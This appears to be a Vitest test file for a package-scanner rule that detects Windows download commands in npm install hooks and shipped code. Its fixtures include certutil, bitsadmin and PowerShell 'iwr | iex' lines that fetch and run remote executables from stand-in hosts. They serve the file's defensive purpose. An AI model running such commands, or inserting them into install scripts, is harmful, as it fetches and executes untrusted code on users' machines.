import { describe, expect, it } from 'vitest';
import type { CodeFact } from '../../analysis/types.js';
import { at, call, packageFacts, str } from '../rule-test-kit.js';
import { processWindowsDownload as rule } from './process-windows-download.js';

const hook = (command: string) =>
  rule.run(packageFacts({ manifest: { installScripts: { postinstall: command } } }));

describe('process-windows-download', () => {
  it.each([
    ['certutil -urlcache -split -f http://198.51.100.4/a.exe %TEMP%\\a.exe', 'high'],
    ['certutil.exe -f -urlcache https://x.invalid/p %TEMP%\\p', 'high'],
    ['bitsadmin /transfer job /download /priority high https://x.invalid/a.exe C:\\a.exe', 'high'],
    [`powershell -c "iwr https://x.invalid/s.ps1 | iex"`, 'high'],
    [`powershell -c "(New-Object Net.WebClient).DownloadFile('https://x.invalid/a','a.exe')"`, 'medium'],
    [`powershell -c "Invoke-WebRequest -Uri https://x.invalid/a -OutFile a.exe"`, 'medium'],
  ])('reports hook %s (%s confidence)', (command, confidence) => {
    expect(hook(command)).toMatchObject([{ severity: 'high', confidence }]);
  });

  it('is high/high for a spawned command, medium/medium for loose text', () => {
    const cmd = 'certutil -urlcache -f https://x.invalid/a.exe a.exe';
    const spawned = rule.run(
      packageFacts({ code: [call('child_process.exec', 'process', at('i.js', 3), [cmd])] }),
    );
    expect(spawned).toMatchObject([{ severity: 'high', confidence: 'high', line: 3 }]);
    const loose = rule.run(packageFacts({ code: [str(cmd, at('i.js', 5))] }));
    expect(loose).toMatchObject([{ severity: 'medium', confidence: 'medium' }]);
  });

  it('grades lines of shipped scripts: certutil high/high, download-and-run high/medium, a download alone silent', () => {
    const line = (api: string, text: string) =>
      rule.run(packageFacts({ code: [call(api, 'process', at('s', 1), [text])] }));
    expect(line('cmd', 'certutil.exe -urlcache -f http://x.invalid/a a.exe')).toMatchObject([
      { severity: 'high', confidence: 'high' },
    ]);
    expect(line('powershell', '$wc.Downloadfile($url, $msiInstaller)')).toEqual([]);
    expect(line('powershell', 'iwr https://x.invalid/s.ps1 | iex')).toMatchObject([
      { severity: 'high', confidence: 'medium' },
    ]);
  });

  it('is high/high for download text in a file that starts processes (commands assembled from parts)', () => {
    const spawn = call('child_process.spawn', 'process', at('c.js', 9), ['cmd.exe', '/c']);
    const lolbin = str('  certutil.exe -urlcache -f ', at('c.js', 2));
    expect(rule.run(packageFacts({ code: [lolbin, spawn] }))).toMatchObject([
      { severity: 'high', confidence: 'high', line: 2 },
    ]);
    const computedRequire: CodeFact = {
      kind: 'import',
      module: '',
      dynamic: false,
      computed: true,
      at: at('o.js', 1),
    };
    const obfuscated = rule.run(
      packageFacts({
        code: [computedRequire, str('certutil -urlcache -f ', at('o.js', 1))],
      }),
    );
    expect(obfuscated).toMatchObject([{ confidence: 'high' }]);
    const download = str('Invoke-WebRequest -Uri "https://x.invalid/a.exe" -OutFile $p', at('r.js', 3));
    const start = str('Start-Process -FilePath $p -WindowStyle Hidden', at('r.js', 4));
    const exec = call('child_process.exec', 'process', at('r.js', 6), ['']);
    expect(rule.run(packageFacts({ code: [download, start, exec] }))).toMatchObject([{ confidence: 'high' }]);
    const helpText = str('Windows: iwr https://get.tool.invalid/install.ps1 -useb | iex', at('h.js', 3));
    expect(rule.run(packageFacts({ code: [helpText, exec] }))).toMatchObject([
      { severity: 'medium', confidence: 'medium' },
    ]);
    expect(rule.run(packageFacts({ code: [download, exec] }))).toMatchObject([
      { severity: 'medium', confidence: 'medium' },
    ]);
  });

  it.each([
    'certutil -hashfile package.tgz SHA256',
    'node install.js',
    'curl -fsSL https://example.invalid/x -o x',
    'Invoke-WebRequest is documented in the README',
    'bitsadmin /list',
  ])('is silent for %s', (text) => {
    expect(hook(text)).toEqual([]);
    expect(rule.run(packageFacts({ code: [str(text, at('i.js'))] }))).toEqual([]);
  });
});
